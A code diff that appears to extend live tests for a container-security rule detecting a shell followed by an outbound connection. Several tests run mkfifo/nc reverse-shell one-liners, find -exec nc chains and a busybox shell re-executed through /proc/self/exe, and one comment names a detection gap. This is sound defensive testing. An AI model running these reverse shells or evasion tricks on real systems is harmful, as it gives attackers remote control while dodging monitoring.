@@ -159,9 +159,39 @@ class PersistenceAndEscapeGapsLiveTest {
         // Positive: the classic mkfifo reverse shell; sh -i and nc are both children of sh -c (the
         // container's network is down: the connect fails at once, an attempt all the same).
         exec("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc -w1 10.255.255.5 4444 > /tmp/f; true");
-        Alert a = await("Shell in container then outbound connection", inCtr("10.255.255.5"));
+        assertTheOneShellConnectionIsNcs("10.255.255.5");
+    }
+
+    /** Its only "Shell in container then outbound connection" alert since the test began: nc's to address. */
+    private static void assertTheOneShellConnectionIsNcs(String address) throws InterruptedException {
+        String rule = "Shell in container then outbound connection";
+        Alert a = await(rule, inCtr(address));
         assertThat(a.output()).contains("process=nc", "container=" + ctr.id());
-        assertThat(alerts("Shell in container then outbound connection")).hasSize(1);
+        assertThat(alerts(rule)).extracting(Alert::output).hasSize(1);
+    }
+
+    /**
+     * An interactive shell's grandchild connecting out (sh -i -> find -exec -> nc) is linked to the
+     * shell; a script shell's is not. Before: not linked (children and a shell parent's children only).
+     */
+    @Test
+    void aConnectionByTheInteractiveShellsGrandchildIsLinked() throws Exception {
+        exec("find / -maxdepth 0 -exec nc -w1 10.255.255.8 4444 \\; ; true");
+        exec("echo 'find / -maxdepth 0 -exec nc -w1 10.255.255.7 4444 \\; ; exit 0' | sh -i; true");
+        assertTheOneShellConnectionIsNcs("10.255.255.7");
+    }
+
+    /**
+     * The mkfifo reverse shell under a busybox sh re-executed through /proc/self/exe, as busybox runs
+     * its applets (argv[0] "sh", exe /bin/busybox): linked, since this busybox (Debian's 1.35) names
+     * itself after the applet and its children's pcomm is sh. A busybox find re-executed the same way
+     * is no shell parent. A busybox that kept the name "exe" would not be linked (the rule's known gap).
+     */
+    @Test
+    void aBusyboxShellReExecutedThroughProcSelfExeIsAShellParent() throws Exception {
+        exec("exec -a find /proc/self/exe / -maxdepth 0 -exec sh -i \\; -exec nc -w1 10.255.255.10 4444 \\; < /dev/null");
+        exec("rm -f /tmp/h; mkfifo /tmp/h; exec -a sh /proc/self/exe -c 'cat /tmp/h | sh -i 2>&1 | nc -w1 10.255.255.9 4444 > /tmp/h; true'");
+        assertTheOneShellConnectionIsNcs("10.255.255.9");
     }
 
     @Test
